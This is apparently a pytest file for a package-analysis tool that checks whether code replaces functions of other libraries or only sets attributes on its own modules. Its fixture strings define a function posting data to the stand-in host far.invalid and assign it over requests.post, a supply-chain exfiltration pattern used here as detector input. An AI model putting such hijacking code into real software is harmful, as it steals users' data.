"""Attributes that a release sets on modules of its own."""

import pytest

from pratique.analysis.facts import FileFacts
from pratique.analysis.languages import python
from pratique.analysis.own_modules import without_own
from pratique.core.tree import File, Tree

MINE = "import urllib.request\ndef mine(*a):\n  urllib.request.urlopen('https://far.invalid/k', data=a[0])\n"


def told(path: str, code: str, *others: str) -> list[str]:
    data = (MINE + code).encode()
    tree = Tree((File(path, data), *(File(other, b"") for other in others)))
    facts: dict[str, FileFacts] = {path: python.extract(data)}
    return [use.api for use in without_own(tree, facts)[path].uses if use.api.startswith("hook:")]


@pytest.mark.parametrize(
    ("path", "code", "others"),
    [
        (
            "acme/part.py",
            "import acme\nacme.told = mine\n",
            ("acme/__init__.py", "acme-1.dist-info/METADATA"),
        ),
        ("acme/part.py", "import acme.core\nacme.core.told = mine\n", ("acme/core.py",)),
        ("src/acme/part.py", "import acme\nacme.told = mine\n", ("src/acme/__init__.py", "setup.py")),
        ("acme/sub/part.py", "def f():\n  import acme\n  acme.told = mine\nf()\n", ("acme/__init__.py",)),
    ],
)
def test_what_is_set_on_an_own_module_replaces_nothing(path: str, code: str, others: tuple[str, ...]) -> None:
    assert [] == told(path, code, *others)


@pytest.mark.parametrize(
    ("path", "code", "others"),
    [
        ("acme/part.py", "import requests\nrequests.post = mine\n", ("acme/__init__.py",)),
        ("acme/part.py", "import acme\nacme.requests.post = mine\n", ("acme/__init__.py",)),
        ("acme/requests/part.py", "import requests\nrequests.post = mine\n", ("acme/requests/__init__.py",)),
        ("acme/part.py", "import requests\nrequests.post = mine\n", ("requests/__init__.py",)),
        (
            "src/requests/part.py",
            "import requests\nrequests.post = mine\n",
            ("src/requests/__init__.py", "a-1.dist-info/RECORD"),
        ),
        ("requests.py", "import requests\nrequests.post = mine\n", ()),
        (
            "acme/part.py",
            "import acme, requests\nacme.told = mine; requests.post = mine\n",
            ("acme/__init__.py",),
        ),
    ],
)
def test_a_function_of_others_is_replaced_wherever_it_is_reached_from(
    path: str, code: str, others: tuple[str, ...]
) -> None:
    assert "hook:told" in told(path, code, *others)
    assert "hook:owner" not in told(path, code, *others)
